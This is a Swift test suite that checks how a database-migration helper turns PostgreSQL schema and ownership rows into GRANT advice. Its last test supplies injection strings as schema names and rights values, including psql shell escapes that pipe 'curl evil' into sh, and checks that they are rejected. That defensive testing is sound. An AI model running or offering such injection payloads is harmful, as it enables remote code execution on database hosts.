import LikesStorage
import Testing

@testable import likesctl

@Suite struct MigrationRightsTests {
    /// What the role `app` is told; `row`: the server's, as `Schema.selectMigrationRights` returns it.
    private func next(_ row: [String?], version: Int? = nil) -> String? {
        MigrationRights(row)?.next(role: "app", version: version)
    }

    private static let older = Schema.version - 1

    @Test("Where there are no tables yet, the right to create them is granted.")
    func whereThereAreNoTablesTheRightToCreateThemIsGranted() {
        #expect(
            next(["public", "USAGE, CREATE", nil, nil, nil, nil, nil])
                == "run this as the owner of the schema, or as its owner run: "
                + "GRANT USAGE, CREATE ON SCHEMA public TO \"app\"")
        #expect(next(["public", nil, nil, nil, nil, nil, nil]) == nil)
    }

    @Test("The owner of older tables is told of the right that it lacks, not that it should be the owner.")
    func theOwnerOfOlderTablesIsToldOfTheRightThatItLacks() {
        #expect(
            next(["public", "CREATE", "app", "t", "CREATE", nil, nil], version: Self.older)
                == "as the owner of the schema run: GRANT CREATE ON SCHEMA public TO \"app\"")
        // Some other table has another owner, which the server's message names.
        #expect(next(["public", nil, "app", "t", nil, nil, nil], version: Self.older) == nil)
    }

    @Test("Another role is sent to the owner of older tables, with the right that this one lacks.")
    func anotherRoleIsSentToTheOwnerOfOlderTables() {
        let instead =
            "run this as the owner of the tables, \"The App\": a role that does not own them may not alter them"
        #expect(
            next(["public", "CREATE", "\"The App\"", "f", nil, nil, "SELECT, INSERT, UPDATE"], version: Self.older)
                == instead)
        #expect(
            next(["public", "CREATE", "\"The App\"", "f", "CREATE", nil, nil], version: Self.older)
                == "\(instead); that one first needs, from the owner of the schema: "
                + "GRANT CREATE ON SCHEMA public TO \"The App\"")
    }

    @Test("With the right version only item types may have to be added.")
    func withTheRightVersionOnlyItemTypesMayHaveToBeAdded() {
        #expect(
            next(["public", "CREATE", "owner", "f", nil, "SELECT", nil])
                == "run this as the owner of the tables, owner, or as that role run: "
                + "GRANT SELECT ON likesd_schema TO \"app\"")
        #expect(
            next(["public", "CREATE", "owner", "f", nil, nil, "INSERT, UPDATE"], version: Schema.version)
                == "run this as the owner of the tables, owner, or as that role run: "
                + "GRANT INSERT, UPDATE ON item_types TO \"app\"")
    }

    @Test(
        "What is no name or no right gets into no statement.",
        arguments: [
            ["public\n\\! curl evil|sh", "CREATE", nil, nil, nil, nil, nil],
            ["public TO x; \\! curl evil|sh", "CREATE", nil, nil, nil, nil, nil],
            ["\"a\" \\! \"b\"", "CREATE", nil, nil, nil, nil, nil],
            ["public", "CREATE TO x; \\! curl evil|sh", nil, nil, nil, nil, nil],
            ["public", "CREATE, ", nil, nil, nil, nil, nil],
            ["public", "CREATE", "x \\! curl", "f", nil, "SELECT", nil], ["public", "CREATE"],
            [nil, "CREATE", nil, nil, nil, nil, nil],
        ] as [[String?]])
    func whatIsNoNameOrNoRightGetsIntoNoStatement(row: [String?]) {
        #expect(next(row) == nil)
    }
}
